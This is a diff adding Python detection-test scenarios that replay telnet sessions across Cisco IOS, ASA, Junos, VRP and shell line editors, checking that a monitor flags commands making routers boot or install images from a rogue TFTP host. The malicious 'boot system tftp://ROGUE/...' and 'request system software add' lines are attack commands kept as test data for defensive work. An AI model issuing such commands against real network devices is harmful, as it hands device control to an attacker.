@@ -1,0 +1,95 @@
+"""BW07: lines longer than the terminal, as each vendor's line editor shows them; and what is no login prompt."""
+
+from __future__ import annotations
+
+from bootwarden.scenarios.model import Expect, Notice, scenario
+from bootwarden.scenarios.sites import ADMIN, ATTACKER, BOOT_SERVER, DEVICE, HQ, IMAGE, ROGUE
+from bootwarden.traffic import telnet
+from bootwarden.traffic.wire import Wire
+
+FILE = "images/ios/2026/january/c2900-universalk9-mz.SPA.152-4.M3.evil-and-much-longer-than-a-terminal.bin"
+EVIL = f"tftp://{ROGUE}/{FILE}"
+WIDTHS = (24, 80, 132)
+
+
+def edited(wire: Wire, editor: telnet.Editor, line: str, prompt: str = "edge1(config)#") -> None:
+    """One session a width, each with a device of its own."""
+    for last, width in enumerate(WIDTHS, 1):
+        session = telnet.Telnet(wire, ATTACKER, f"10.0.1.{last}", prompt=prompt, port=50030 + last)
+        session.login()
+        session.edited(line, editor, width)
+        session.close()
+
+
+def each(device_file: str = FILE) -> Expect:
+    """What one order on each of the devices raises."""
+    return Expect(tuple(Notice("Boot_Command", f"10.0.1.{last}", ROGUE, device_file) for last in (1, 2, 3)))
+
+
+ALERTS = [("BW07", 0, ATTACKER, f"10.0.1.{last}") for last in (1, 2, 3)]
+
+
+@scenario("BW07", "malicious", raises=ALERTS, site=HQ, with_site=each())
+def bw07_scrolled_by_ios(wire: Wire) -> None:
+    """IOS moves a long line to the left."""
+    edited(wire, telnet.scrolling, f"boot system {EVIL}")
+
+
+@scenario("BW07", "malicious", raises=ALERTS, site=HQ, with_site=each())
+def bw07_wrapped_by_a_shell(wire: Wire) -> None:
+    """A shell with readline goes on in the next row."""
+    edited(wire, telnet.wrapping, f"boot system {EVIL}", prompt="edge1#")
+
+
+@scenario("BW07", "malicious", raises=ALERTS, site=HQ, with_site=each())
+def bw07_cut_by_asa(wire: Wire) -> None:
+    """ASA cuts at the right margin."""
+    edited(wire, telnet.cut, f"boot system {EVIL}", prompt="asa1(config)# ")
+
+
+@scenario("BW07", "malicious", raises=ALERTS, site=HQ, with_site=each())
+def bw07_cursor_moved_back(wire: Wire) -> None:
+    """VRP and Adtran move the cursor back and write the end again."""
+    edited(wire, telnet.stepping_back, f"boot system {EVIL}", prompt="[core1]")
+
+
+@scenario(
+    "BW07",
+    "malicious",
+    raises=[("BW07", 1, ATTACKER, f"10.0.1.{last}") for last in (1, 2, 3)],
+    site=HQ,
+    with_site=each(),
+)
+def bw07_completed_by_junos(wire: Wire) -> None:
+    """Junos shows each blank, takes it back and shows it again."""
+    edited(wire, telnet.completing, f"request system software add {EVIL}", prompt="admin@mx1> ")
+
+
+@scenario(
+    "BW07",
+    "malicious",
+    raises=[("BW07", 0, ATTACKER, DEVICE)],
+    site=HQ,
+    with_site=Expect((Notice("Boot_Command", DEVICE, ROGUE, "x-login:"),)),
+)
+def bw07_words_of_a_login(wire: Wire) -> None:
+    """Descriptions, comments and file names end like prompts for a name or a password: what follows is a command."""
+    session = telnet.Telnet(wire, ATTACKER, DEVICE)
+    session.login()
+    for line in ("description new password:", "description set PIN:", "description login: admin"):
+        session.typed(line)
+    session.typed(f"boot system tftp://{ROGUE}/x-login:", output="Last login: Mon Jan  5 on vty0")
+    session.close()
+
+
+@scenario("BW07", "benign", site=HQ, with_site=Expect())
+def bw07_long_lines_of_daily_work(wire: Wire) -> None:
+    """An administrator's long lines: what is approved, and what is no order; passwords that look like one."""
+    session = telnet.Telnet(wire, ADMIN, DEVICE, prompt="edge1(config)#")
+    session.login(password="reload")
+    session.edited(f"boot system tftp://{BOOT_SERVER}/{IMAGE}" + " " * 40, telnet.scrolling, 80)
+    session.edited(f"description not yet: boot system {EVIL}", telnet.scrolling, 80)
+    session.edited(f"no boot system {EVIL}", telnet.scrolling, 80)
+    session.keys("enable\r\0", "enable\r\nPassword: ")
+    session.typed_blind(f"boot system tftp://{ROGUE}/x")
+    session.close()
